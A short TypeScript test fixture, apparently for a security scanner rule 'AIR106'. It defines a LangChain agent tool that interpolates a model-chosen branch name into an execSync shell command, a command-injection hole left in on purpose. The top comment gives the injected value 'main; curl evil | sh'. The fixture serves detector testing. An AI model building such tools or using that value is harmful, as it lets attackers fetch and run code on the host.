// case: AIR106 vulnerable. A release agent's tool interpolates the model-chosen branch name into
// a shell command (`execSync` with a template string): `main; curl evil | sh` runs. The command
// is fixed around the argument, so this is AIR106, not AIR201. No untrusted source. (`.tsx`.)
import { execSync } from "node:child_process";
import { createAgent, tool } from "langchain";
import * as z from "zod";

export const checkout = tool(
  async ({ branch }) => {
    const out = execSync(`git checkout ${branch} && git log -1 --oneline`); // expect: AIR106
    return out.toString();
  },
  { name: "checkout_branch", description: "Check out a branch", schema: z.object({ branch: z.string() }) },
);

export const releaser = createAgent({ model: "openai:gpt-4.1", tools: [checkout] });
